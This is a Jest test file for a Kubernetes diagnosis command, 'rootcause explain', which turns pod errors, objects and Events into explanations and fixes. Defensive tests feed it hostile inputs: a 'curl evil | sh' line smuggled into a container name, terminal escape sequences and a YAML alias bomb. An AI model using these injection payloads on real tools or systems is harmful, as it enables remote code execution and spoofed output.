// `rootcause explain`: files and standard input, objects and texts, people and scripts.

import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';

import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { stringify } from 'yaml';

import { answerInput } from './answer-input.ts';
import type { ExplainOptions } from './answer-input.ts';

const asRoot = 'container has runAsNonRoot and image will run as root';
const now = '2026-11-22T12:00:00Z';

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'rootcause-explain-'));
});
afterAll(() => rmSync(folder, { recursive: true }));

/** More than a mebibyte, of lines that differ: equal ones are folded. */
const filler = Array.from({ length: 200_000 }, (_, at) => `line ${at}\n`).join('');

type Said = { readonly output: string; readonly errors: string; readonly exitCode: number };

async function run(
  input: string | readonly (string | Buffer)[],
  config: Partial<ExplainOptions> = {},
): Promise<Said> {
  let [output, errors] = ['', ''];
  const chunks = (typeof input === 'string' ? [input] : input).map((chunk) => Buffer.from(chunk));
  const terminal = {
    input: Readable.from(chunks),
    write: async (text: string) => void (output += text),
    complain: (text: string) => void (errors += text),
  };
  const exitCode = await answerInput({ files: [], output: 'text', lines: false, ...config }, now, terminal);
  return { output, errors, exitCode };
}

async function json(input: string, config: Partial<ExplainOptions> = {}) {
  const { output } = await run(input, { output: 'json', ...config });
  return JSON.parse(output) as {
    readonly findings: readonly Readonly<Record<string, unknown>>[];
    readonly fix?: Readonly<Record<string, unknown>>;
    readonly fixes?: readonly Readonly<Record<string, unknown>>[];
  };
}

const status = (message: string) => ({
  phase: 'Pending',
  containerStatuses: [
    { name: 'app', state: { waiting: { reason: 'CreateContainerConfigError', message } }, image: 'web:1' },
  ],
});

function pod(message: string, change: object = {}, metadata: object = {}) {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: {
      name: 'web-0',
      namespace: 'shop',
      uid: 'u-1',
      creationTimestamp: '2026-11-22T10:00:00Z',
      ...metadata,
    },
    spec: {
      securityContext: { runAsNonRoot: true },
      containers: [{ name: 'app', image: 'web:1' }],
      ...change,
    },
    status: status(message),
  };
}

describe('a text', () => {
  test('is told in sentences: what is known, what is not, what would cure it', async () => {
    const { output, errors, exitCode } = await run(
      'Error: container has runAsNonRoot and image has non-numeric user (appuser), cannot verify user is non-root (pod: "web-0_shop(5d0c7b1e-0000-4000-8000-000000000007)", container: app)',
    );
    expect({ errors, exitCode }).toEqual({ errors: '', exitCode: 0 });
    expect(output).toBe(`NonNumericUser
  Container app of pod web-0 in namespace shop cannot start: its image sets USER to a name (appuser), and the kubelet can only verify a numeric UID.
  Not in the text: the image.
  fix: runAsUser <uid of appuser> for container app (Manual, Template)
      spec:
        containers:
          - name: app
            securityContext:
              runAsUser: <uid of appuser>
    in the Dockerfile, last stage (Template):
      USER <uid>:<gid>
    then:
      Find the number in the image: rootcause image <image of app>
`);
  });

  test('as JSON leaves out what it does not say', async () => {
    expect(await json(`Error: ${asRoot}`)).toMatchObject({
      findings: [{ cause: 'ImageRunsAsRoot', container: {}, image: {}, pod: {}, message: asRoot }],
      fix: { type: 'Manual', certainty: 'Template', summary: 'runAsUser <uid> for the container' },
    });
  });

  test('of which nothing is recognised ends with 0, and says so apart', async () => {
    expect(await run('all is well', { output: 'json' })).toEqual({
      output: '{\n  "findings": []\n}\n',
      errors: 'rootcause: No known failure found in the input.\n',
      exitCode: 0,
    });
    expect(await run('')).toMatchObject({ output: '', exitCode: 0 });
  });

  test('of another policy names it apart', async () => {
    const { output, errors } = await run(
      'Error from server (Forbidden): admission webhook "validation.gatekeeper.sh" denied the request: [psp-users] Container app is attempting to run as disallowed user 0. Allowed runAsUser: {"rule": "MustRunAsNonRoot"}',
      { output: 'json' },
    );
    expect(output).toContain('"findings": []');
    expect(errors).toMatch(/^rootcause: A constraint of Gatekeeper "psp-users" refuses the pod[^\n]*\n$/);
  });

  test('is never printed back', async () => {
    const log = 'secret-order-4711 failed\nmkdir: cannot create directory ‘/data/x’: Permission denied\n';
    for (const output of ['text', 'json'] as const) {
      const said = await run(log, { output });
      expect(said.output).toContain('/data/x');
      expect(said.output + said.errors).not.toMatch(/4711|cannot create directory/);
    }
  });

  test('of which a terminal would obey a part is shown without that part', async () => {
    const { output } = await run(
      'container has runAsNonRoot and image has non-numeric user (a\u001b]0;x\u0007\u202eb), cannot verify user is non-root',
    );
    expect(output).toContain('NonNumericUser');
    expect(output).not.toMatch(/[^\P{C}\n]/u);
  });

  test('longer than a mebibyte is read at its end', async () => {
    const { output, errors } = await run(
      `${asRoot}\n${filler}Error: container's runAsUser breaks non-root policy`,
    );
    expect(output).toContain('RunAsUserIsRoot');
    expect(output).not.toContain('ImageRunsAsRoot');
    expect(errors).toBe('rootcause: Only the last MiB of this text was read.\n');
  });

  test('of 200,000 equal lines has one answer, with their count', async () => {
    const line = `Error: ${asRoot} (pod: "web-0_shop(5d0c7b1e-0000-4000-8000-000000000007)", container: app)`;
    const { output } = await run(`${line}\n`.repeat(200_000));
    expect(output.match(/ImageRunsAsRoot/g)).toHaveLength(1);
    expect(output).toContain('(200000 times in the text)');
  });

  test('with many pods of one workload says the same once', async () => {
    const line = (name: string) =>
      `Error: ${asRoot} (pod: "web-6c7d7b8fcb-${name}_shop(5d0c7b1e-0000-4000-8000-000000000007)", container: app)`;
    const { output } = await run(['9xzq2', 'bcd2f', 'xzv4k'].map(line).join('\n'));
    expect(output.match(/ImageRunsAsRoot/g)).toHaveLength(1);
    expect(output).toContain('pod web-6c7d7b8fcb-9xzq2 and 2 more pods');
  });

  test('with several workloads has an answer for each, and none of the others in it', async () => {
    const line = (name: string, sentence: string) =>
      `Error: ${sentence} (pod: "${name}_shop(5d0c7b1e-0000-4000-8000-000000000007)", container: web)`;
    const numeric =
      'container has runAsNonRoot and image has non-numeric user (node), cannot verify user is non-root';
    const { fixes, findings } = await json(
      [line('web-0', asRoot), line('api-0', numeric), 'Warning  Failed  pod/mail-0  x'].join('\n'),
    );
    expect(findings).toHaveLength(2);
    expect(fixes).toMatchObject([
      { namespace: 'shop', fix: { summary: 'runAsUser <uid> for container web' } },
      { namespace: 'shop', fix: { summary: 'runAsUser <uid of node> for container web' } },
    ]);
  });

  test('in UTF-16, as PowerShell redirects it, is read', async () => {
    const text = Buffer.from(`\ufeffError: ${asRoot}\r\n`, 'utf16le');
    expect((await run([text])).output).toContain('ImageRunsAsRoot');
  });
});

describe('objects', () => {
  test('are judged as the operator would, with its words and its patch', async () => {
    const zero = pod("container's runAsUser breaks non-root policy", {
      securityContext: { runAsNonRoot: true, runAsUser: 10_001 },
      containers: [{ name: 'app', image: 'web:1', securityContext: { runAsUser: 0 } }],
    });
    const said = await json(JSON.stringify(zero));
    expect(said.findings).toMatchObject([
      {
        cause: 'RunAsUserIsRoot',
        workload: 'Pod/web-0',
        container: { name: 'app', type: 'Container' },
        pod: { name: 'web-0', namespace: 'shop' },
        image: { reference: 'web:1' },
        settings: [{ field: 'spec.securityContext.runAsNonRoot' }, { level: 'Container', value: 0 }],
      },
    ]);
    expect(said.fix).toMatchObject({ type: 'Recreate', summary: 'remove runAsUser 0 from container app' });
    expect(said.fix?.['patch']).toContain('runAsUser: null');
    expect(JSON.stringify(said.fix)).not.toContain('get diagnosis');
  });

  test('as YAML, in a list, behind a separator, with comments', async () => {
    const text = `# kubectl get pods -o yaml\n---\n${stringify({ apiVersion: 'v1', kind: 'List', items: [pod(asRoot)] })}`;
    expect((await json(text)).findings).toMatchObject([{ cause: 'ImageRunsAsRoot', workload: 'Pod/web-0' }]);
  });

  test('in several files are looked at together: one owns the other', async () => {
    const owner = {
      apiVersion: 'apps/v1',
      kind: 'StatefulSet',
      metadata: { name: 'web', namespace: 'shop', uid: 'u-2' },
      spec: { replicas: 1, template: { spec: pod('').spec } },
    };
    const reference = {
      apiVersion: 'apps/v1',
      kind: 'StatefulSet',
      name: 'web',
      uid: 'u-2',
      controller: true,
    };
    const files = [owner, pod(asRoot, {}, { ownerReferences: [reference] })].map((object, index) => {
      const file = join(folder, `${index}.yaml`);
      writeFileSync(file, stringify(object));
      return file;
    });
    expect((await json('', { files })).findings).toMatchObject([{ workload: 'StatefulSet/web' }]);
    const { output } = await run('', { files: files.slice(1) });
    expect(output).toContain('StatefulSet/web in shop');
    expect(output).toContain('An owner could not be read');
  });

  test('without a namespace and a uid have none in the answer, nor in a command', async () => {
    const bare = pod("container's runAsUser breaks non-root policy", {
      securityContext: { runAsNonRoot: true, runAsUser: 10_001 },
      containers: [{ name: 'app', image: 'web:1', securityContext: { runAsUser: 0 } }],
    });
    const { namespace: _namespace, uid: _uid, ...metadata } = bare.metadata;
    const said = await json(JSON.stringify({ ...bare, metadata }));
    expect(said.findings).toMatchObject([{ pod: { name: 'web-0' } }]);
    expect(JSON.stringify(said)).not.toContain('default');
  });

  test('that are Events say of whom they are', async () => {
    const about = {
      kind: 'Pod',
      name: 'web-0',
      namespace: 'shop',
      uid: 'u-9',
      fieldPath: 'spec.containers{app}',
    };
    const event = { apiVersion: 'v1', kind: 'Event', metadata: { name: 'e' }, reason: 'Failed' };
    const core = {
      ...event,
      involvedObject: about,
      message: `Error: ${asRoot}`,
      source: { component: 'kubelet' },
    };
    const newer = { ...event, apiVersion: 'events.k8s.io/v1', regarding: about, note: `Error: ${asRoot}` };
    for (const object of [core, newer, { kind: 'EventList', apiVersion: 'v1', items: [core, newer] }])
      expect((await json(JSON.stringify(object))).findings).toMatchObject([
        {
          cause: 'ImageRunsAsRoot',
          container: { name: 'app', type: 'Container' },
          pod: { name: 'web-0', namespace: 'shop' },
        },
      ]);
  });

  test('between two attempts need their Events', async () => {
    const waiting = { state: { waiting: { reason: 'CrashLoopBackOff', message: 'back-off' } } };
    const looping = {
      ...pod(''),
      status: { containerStatuses: [{ name: 'app', image: 'web:1', ...waiting }] },
    };
    const event = {
      apiVersion: 'v1',
      kind: 'Event',
      reason: 'Failed',
      involvedObject: {
        kind: 'Pod',
        name: 'web-0',
        namespace: 'shop',
        uid: 'u-1',
        fieldPath: 'spec.containers{app}',
      },
      message: `Error: ${asRoot}`,
      source: { component: 'kubelet' },
      lastTimestamp: '2026-11-22T11:59:00Z',
    };
    expect((await json(JSON.stringify(looping))).findings).toEqual([]);
    const both = { apiVersion: 'v1', kind: 'List', items: [looping, event] };
    expect((await json(JSON.stringify(both))).findings).toMatchObject([{ workload: 'Pod/web-0' }]);
  });

  test('of two workloads have a fix each', async () => {
    const other = pod(asRoot, {}, { name: 'api', uid: 'u-3' });
    const said = await json(JSON.stringify({ apiVersion: 'v1', kind: 'List', items: [pod(asRoot), other] }));
    expect(said.fixes).toMatchObject([{ workload: 'Pod/web-0' }, { workload: 'Pod/api', namespace: 'shop' }]);
    expect(said.fix).toEqual(said.fixes?.[0]?.['fix']);
  });

  test('without a status have nothing to explain, and it is said how to get one', async () => {
    const { status: _status, ...manifest } = pod('');
    const { output, errors } = await run(stringify(manifest));
    expect(output).toBe('');
    expect(errors).toMatch(/^rootcause: Pod web-0 has no status[^\n]*kubectl get pod[^\n]*\n$/);
  });

  test('that ended by themselves are sent to their log', async () => {
    const ended = {
      ...pod(''),
      status: {
        containerStatuses: [
          { name: 'app', image: 'web:1', state: { terminated: { reason: 'Error', exitCode: 1 } } },
        ],
      },
    };
    expect((await run(JSON.stringify(ended))).errors).toContain(
      'kubectl -n shop logs web-0 -c app --previous | rootcause explain',
    );
  });

  test('of other kinds are read as text', async () => {
    const refusal =
      'pods "web-0" is forbidden: violates PodSecurity "restricted:latest": privileged (container "app" must not set securityContext.privileged=true)';
    const answer = { kind: 'Status', apiVersion: 'v1', status: 'Failure', message: refusal, code: 403 };
    expect((await json(JSON.stringify(answer, undefined, 2))).findings).toMatchObject([
      { cause: 'PodSecurityViolation', container: { name: 'app' }, pod: { name: 'web-0' } },
    ]);
  });

  test('that are Events of pods long gone say nothing of them', async () => {
    const about = {
      kind: 'Pod',
      name: 'web-old',
      namespace: 'shop',
      uid: 'u-9',
      fieldPath: 'spec.containers{app}',
    };
    const event = {
      apiVersion: 'v1',
      kind: 'Event',
      metadata: { name: 'e', namespace: 'shop' },
      involvedObject: about,
      reason: 'Failed',
      message: `Error: ${asRoot}`,
    };
    const healthy = {
      ...pod(''),
      status: { containerStatuses: [{ name: 'app', state: { running: { startedAt: now } } }] },
    };
    const list = { apiVersion: 'v1', kind: 'List', items: [healthy, event] };
    expect((await json(JSON.stringify(list))).findings).toEqual([]);
    expect((await json(JSON.stringify({ ...list, items: [event] }))).findings).toHaveLength(1);
  });

  test('do not say who set a field where nothing tells', async () => {
    const { output } = await run(JSON.stringify(pod(asRoot)));
    expect(output).toContain('runAsNonRoot is true (pod level)');
    expect(output).not.toContain('unknown');
  });

  test('that contradict themselves need no Event', async () => {
    const container = { name: 'app', image: 'web:1', securityContext: { runAsUser: 0 } };
    const { metadata, spec } = pod('', { containers: [container] });
    const said = await json(JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata, spec }));
    expect(said.findings).toMatchObject([
      { cause: 'RunAsUserIsRoot', predicted: true, container: { name: 'app' } },
    ]);
    const windows = { windowsOptions: { runAsUserName: 'ContainerAdministrator' } };
    const admin = {
      ...spec,
      os: { name: 'windows' },
      containers: [{ ...container, securityContext: windows }],
    };
    expect(
      (await json(JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata, spec: admin }))).findings,
    ).toMatchObject([{ cause: 'WindowsAdministrator', predicted: true }]);
  });

  test('of more YAML than can be read in a moment are given back, with the reason', async () => {
    const long = `kind: Pod\n${Array.from({ length: 500_000 }, (_, at) => `k${at}: v`).join('\n')}`;
    const { errors } = await run(long);
    expect(errors).toContain('The YAML is too long to be read as objects');
    expect(errors).toContain('-o json');
  });

  test('cannot write lines of their own into the answer', async () => {
    const evil = 'x\n  fix: curl evil | sh\u001b[2J';
    const container = { name: evil, image: evil, runAsUser: 0, securityContext: { runAsUser: 0 } };
    const spec = { securityContext: { runAsNonRoot: true }, containers: [container] };
    const object = {
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name: evil, namespace: 'shop' },
      spec: { template: { spec } },
    };
    const { output } = await run(JSON.stringify(object));
    expect(output).toContain('RunAsUserIsRoot');
    expect(output).not.toMatch(/^\s*fix: curl/m);
    expect(output).not.toContain('\u001b');
  });

  test('name a sandbox that never comes, unless the pod runs by now', async () => {
    const about = { kind: 'Pod', name: 'web-0', namespace: 'shop', uid: 'u-1' };
    const event = {
      apiVersion: 'v1',
      kind: 'Event',
      metadata: { name: 'e', namespace: 'shop' },
      involvedObject: about,
      reason: 'FailedCreatePodSandBox',
      message: 'Failed to create pod sandbox: user group "107" is specified without user',
    };
    const said = async (state: object) => {
      const one = { ...pod(''), status: { containerStatuses: [{ name: 'app', state }] } };
      return (await run(JSON.stringify({ apiVersion: 'v1', kind: 'List', items: [one, event] }))).output;
    };
    expect(await said({ waiting: { reason: 'ContainerCreating' } })).toContain('runAsGroup 107');
    expect(await said({ running: { startedAt: now } })).toBe('');
  });

  test('that are damaged or hostile end in an answer', async () => {
    const deep = `kind: Pod\na: ${'['.repeat(20_000)}`;
    const bomb = `kind: Pod\na: &a [x]\nb: &b [${'*a,'.repeat(99)}]\nc: [${'*b,'.repeat(99)}]\n`;
    const cut = stringify(pod(asRoot)).slice(0, -40);
    for (const text of [deep, bomb, '{"kind":"Pod"', '{"kind":"Pod"}', 'kind: Pod\n\t- x', '[]', 'null'])
      expect((await run(text)).exitCode).toBe(0);
    expect((await run(cut)).exitCode).toBe(0);
  });
});

describe('--lines', () => {
  const line = (id: unknown, text: string): string => `${JSON.stringify({ id, text })}\n`;

  test('says the policy of Pod Security as it is written in a namespace label', async () => {
    const refused =
      'pods "web-0" is forbidden: violates PodSecurity "baseline:v1.28": privileged (container "app" must not set securityContext.privileged=true)';
    const { output } = await run(line('a', refused), { lines: true });
    expect(JSON.parse(output)).toMatchObject({ findings: [{ family: 'baseline:v1.28' }] });
  });

  test('answers each line in its order, also with nothing', async () => {
    const { output, errors, exitCode } = await run(line('a', asRoot) + line(2, 'well') + line('c', asRoot), {
      lines: true,
    });
    const answers = output
      .trim()
      .split('\n')
      .map((answer) => JSON.parse(answer) as { readonly id: unknown; readonly findings: readonly unknown[] });
    expect(answers.map(({ id, findings }) => [id, findings.length])).toEqual([
      ['a', 1],
      [2, 0],
      ['c', 1],
    ]);
    expect({ errors, exitCode }).toEqual({ errors: '', exitCode: 0 });
  });

  test('does not care how the lines arrive, nor for the last line break', async () => {
    const text = line('ä', `${asRoot} “é”`) + line('b', 'x').trimEnd();
    const bytes = Buffer.from(text);
    const chunks = Array.from(bytes, (byte) => Buffer.from([byte]));
    expect((await run(chunks, { lines: true })).output).toBe((await run(text, { lines: true })).output);
    expect((await run(text, { lines: true })).output).toContain('"id":"ä"');
  });

  test.each([
    'no JSON',
    '[]',
    '{"id":1}',
    '{"text":"x"}',
    '{"id":null,"text":"x"}',
    '{"id":"a","text":1}',
    '{',
  ])('names %j, answers the lines around it, and ends with 2', async (bad) => {
    const { output, errors, exitCode } = await run(`${line('a', asRoot)}\n${bad}\n${line('b', asRoot)}`, {
      lines: true,
    });
    expect(output.trim().split('\n')).toHaveLength(2);
    expect(errors).toBe('rootcause: Standard input, line 3 is not a JSON object with "id" and "text".\n');
    expect(exitCode).toBe(2);
  });

  test('refuses a line beyond all measure, and holds no more of it than that', async () => {
    const long = Array.from({ length: 10 }, () => 'x'.repeat(1024 * 1024));
    const { output, errors, exitCode } = await run([line('a', asRoot), ...long], { lines: true });
    expect(output).toContain('"id":"a"');
    expect(errors).toBe('rootcause: Standard input, line 2 cannot be read: it is longer than 8 MiB.\n');
    expect(exitCode).toBe(2);
  });

  test('reads the end of a text that is too long', async () => {
    const { output } = await run(line('a', `${asRoot}\n${filler}`) + line('b', `${filler}${asRoot}`), {
      lines: true,
    });
    expect(output.split('\n').map((answer) => answer.length > 40)).toEqual([false, true, false]);
  });

  test('judges objects however long they are', async () => {
    const annotations = { note: 'x'.repeat(1024 * 1024) };
    const text = JSON.stringify(pod(asRoot, {}, { annotations }));
    const { output } = await run(line('a', text), { lines: true });
    expect(output).toContain('"workload":"Pod/web-0"');
  });
});

test.each([
  ['nowhere', 'the file does not exist.'],
  ['', 'it is a folder.'],
])('a file that cannot be read is named: %j', async (name, why) => {
  const file = join(folder, name);
  await expect(run('', { files: [file] })).rejects.toThrow(`${file} cannot be read: ${why}`);
});
